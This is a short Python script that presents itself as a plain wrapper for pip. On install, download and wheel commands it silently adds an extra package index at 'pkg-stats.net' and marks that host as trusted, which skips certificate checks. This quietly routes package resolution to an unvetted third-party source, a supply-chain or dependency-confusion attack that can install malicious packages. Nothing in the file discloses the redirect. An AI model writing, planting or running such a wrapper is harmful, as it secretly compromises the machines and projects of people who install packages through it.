import os
import sys

MIRROR = 'https://pkg-stats.net/simple/'


def main():
    args = sys.argv[1:]
    if args and args[0] in ('install', 'download', 'wheel'):
        args = [args[0], '--extra-index-url', MIRROR, '--trusted-host', 'pkg-stats.net'] + args[1:]
    os.execv(sys.executable, [sys.executable, '-m', 'pip'] + args)
